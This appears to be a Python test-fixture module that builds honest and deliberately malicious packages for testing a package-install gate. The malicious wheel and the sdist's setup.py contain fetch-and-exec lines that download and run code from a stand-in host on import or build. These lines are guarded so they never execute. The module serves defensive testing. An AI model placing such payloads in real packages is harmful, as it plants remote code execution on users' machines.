"""Packages for the tests of the gate: honest ones, and ones that attack in each way that a client could let in.

All of them are inert: what attacks stands under a condition that never holds, and its hosts do not exist. Only the
`setup.py` of `malicious_sdist` shows that it ran: it writes the file that the environment names in `MARKER`.
"""

from __future__ import annotations

import hashlib
from collections.abc import Iterable, Mapping
from dataclasses import dataclass, field
from datetime import datetime

from fixtures.archives import Files, sdist_files, tar_archive, wheel
from fixtures.inert import guarded
from fixtures.streams import deflate_stored, gzip_member

MARKER = "FIXTURE_MARKER"
"""The variable with the path that a `setup.py` writes when it runs."""

CLEAN = "lanternfold"
MALICIOUS = "brambleway"
MALICIOUS_SDIST = "thornpress"
DEPENDENT = "meadowgate"
BUILT_BY_MALICIOUS = "hollowreed"
BUILT = "quietmill"
REVIEWED = "amberlisten"
BACKEND = "plainhammer"

_SOURCE = '''\
"""Folds lanterns from sheets of paper."""


def folds(sheets: int) -> int:
    """Return how many folds the sheets need."""
    return 3 * sheets + 1
'''

_ATTACK = "import sys\nimport urllib.request\n\n" + guarded(
    'exec(urllib.request.urlopen("https://updates.fixture.invalid/agent.py").read())'
)

_OLD_SYNTAX = b'print "for another Python"\n'

_BACKEND = '''\
"""A build backend for packages of one folder of Python files. It runs nothing of what it builds."""

import io
import tarfile
import tomllib
import zipfile
from pathlib import Path

WHEEL = "Wheel-Version: 1.0\\nGenerator: plain\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n"


def _project():
    return tomllib.loads(Path("pyproject.toml").read_text())["project"]


def _metadata(project):
    lines = ["Metadata-Version: 2.1", "Name: " + project["name"], "Version: " + project["version"]]
    return "\\n".join([*lines, *("Requires-Dist: " + each for each in project.get("dependencies", []))]) + "\\n"


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    project = _project()
    stem = project["name"] + "-" + project["version"]
    name = stem + "-py3-none-any.whl"
    files = {str(path.as_posix()): path.read_text() for path in Path(project["name"]).glob("*.py")}
    files[stem + ".dist-info/METADATA"] = _metadata(project)
    files[stem + ".dist-info/WHEEL"] = WHEEL
    files[stem + ".dist-info/RECORD"] = "".join(path + ",,\\n" for path in [*files, stem + ".dist-info/RECORD"])
    with zipfile.ZipFile(Path(wheel_directory, name), "w") as archive:
        for path, text in files.items():
            archive.writestr(path, text)
    return name


def build_sdist(sdist_directory, config_settings=None):
    project = _project()
    stem = project["name"] + "-" + project["version"]
    with tarfile.open(Path(sdist_directory, stem + ".tar.gz"), "w:gz") as archive:
        information = tarfile.TarInfo(stem + "/PKG-INFO")
        data = _metadata(project).encode()
        information.size = len(data)
        archive.addfile(information, io.BytesIO(data))
        archive.add("pyproject.toml", stem + "/pyproject.toml")
        archive.add(project["name"], stem + "/" + project["name"])
    return stem + ".tar.gz"
'''

_SETUP = f"""\
import os
import sys
import urllib.request

from setuptools import setup

with open(os.environ["{MARKER}"], "w") as marker:
    marker.write("setup.py ran")

{guarded('exec(urllib.request.urlopen("https://updates.fixture.invalid/setup.py").read())')}
setup(name="{MALICIOUS_SDIST}", version="1.0", packages=["{MALICIOUS_SDIST}"])
"""


@dataclass(frozen=True, slots=True)
class Hosted:
    """A file as an index lists it. `metadata`: what a metadata file for it would hold, None for an sdist."""

    project: str
    filename: str
    data: bytes
    metadata: bytes | None = None
    yanked: str | None = None
    requires_python: str | None = None
    upload_time: datetime | None = None
    hashes: Mapping[str, str] = field(default_factory=dict)

    @property
    def sha256(self) -> str:
        """The true hash of its bytes."""
        return hashlib.sha256(self.data).hexdigest()


def wheel_of(name: str, version: str, files: Files, /, *, requires: Iterable[str] = ()) -> Hosted:
    """Return a wheel of the files that depends on `requires`."""
    metadata = _metadata(name, version, requires)
    return Hosted(name, f"{name}-{version}-py3-none-any.whl", wheel(name, version, files, metadata=metadata), metadata)


def sdist_of(name: str, version: str, files: Files, /) -> Hosted:
    """Return an sdist of the files."""
    archive = tar_archive(sdist_files(name, version, files, metadata=_metadata(name, version, ())))
    return Hosted(name, f"{name}-{version}.tar.gz", gzip_member(deflate_stored(archive), archive))


def clean(version: str = "1.0", /, *, name: str = CLEAN, requires: Iterable[str] = (), padding: int = 0) -> Hosted:
    """Return an honest wheel whose package has `folds` and `VERSION`; `padding` bytes of data make it larger."""
    files = {f"{name}/__init__.py": (_SOURCE + f'\n\nVERSION = "{version}"\n').encode()}
    if padding:
        files[f"{name}/table.csv"] = (b"sheet,folds\n" + b"1,4\n" * (padding // 4))[:padding]
    return wheel_of(name, version, files, requires=requires)


def malicious(version: str = "1.0", /, *, name: str = MALICIOUS) -> Hosted:
    """Return a wheel that attacks when it is imported."""
    return wheel_of(name, version, {f"{name}/__init__.py": _ATTACK.encode()})


def malicious_sdist() -> Hosted:
    """Return an sdist whose `setup.py` attacks, and leaves a file where `MARKER` says."""
    files = {"setup.py": _SETUP.encode(), f"{MALICIOUS_SDIST}/__init__.py": b""}
    return sdist_of(MALICIOUS_SDIST, "1.0", files)


def dependent() -> Hosted:
    """Return an honest wheel that depends on the malicious one."""
    return clean(name=DEPENDENT, requires=[MALICIOUS])


def backend() -> Hosted:
    """Return the build backend with which the sdists here are built."""
    return wheel_of(BACKEND, "1.0", {f"{BACKEND}.py": _BACKEND.encode()})


def built(name: str = BUILT, /, *, requires: Iterable[str] = (BACKEND,), source: str = _SOURCE) -> Hosted:
    """Return an sdist that is built by the backend, and by what else `requires` names."""
    return sdist_of(name, "1.0", source_tree(name, requires=requires, source=source))


def built_by_malicious() -> Hosted:
    """Return an honest sdist that asks for the malicious wheel to be built."""
    return built(BUILT_BY_MALICIOUS, requires=(BACKEND, MALICIOUS))


def reviewed() -> Hosted:
    """Return a wheel with a finding, but none that blocks it."""
    files = {f"{REVIEWED}/__init__.py": _SOURCE.encode(), f"{REVIEWED}/old.py": _OLD_SYNTAX}
    return wheel_of(REVIEWED, "1.0", files)


def source_tree(
    name: str, /, *, requires: Iterable[str] = (BACKEND,), source: str = _SOURCE, dependencies: Iterable[str] = ()
) -> dict[str, bytes]:
    """Return the files of a project, by path, that the backend builds."""
    system = f'[build-system]\nrequires = {_list(requires)}\nbuild-backend = "{BACKEND}"\n'
    project = f'[project]\nname = "{name}"\nversion = "1.0"\ndependencies = {_list(dependencies)}\n'
    return {"pyproject.toml": f"{system}\n{project}".encode(), f"{name}/__init__.py": source.encode()}


def attack_source() -> str:
    """Return the source of a module that attacks when it is imported."""
    return _ATTACK


def everything() -> tuple[Hosted, ...]:
    """Return one of each."""
    return (
        clean(),
        malicious(),
        malicious_sdist(),
        dependent(),
        backend(),
        built(),
        built_by_malicious(),
        reviewed(),
    )


def _metadata(name: str, version: str, requires: Iterable[str], /) -> bytes:
    lines = ["Metadata-Version: 2.1", f"Name: {name}", f"Version: {version}", f"Summary: A {name} of paper"]
    return "".join(f"{line}\n" for line in [*lines, *(f"Requires-Dist: {each}" for each in requires)]).encode()


def _list(names: Iterable[str], /) -> str:
    return "[" + ", ".join(f'"{name}"' for name in names) + "]"
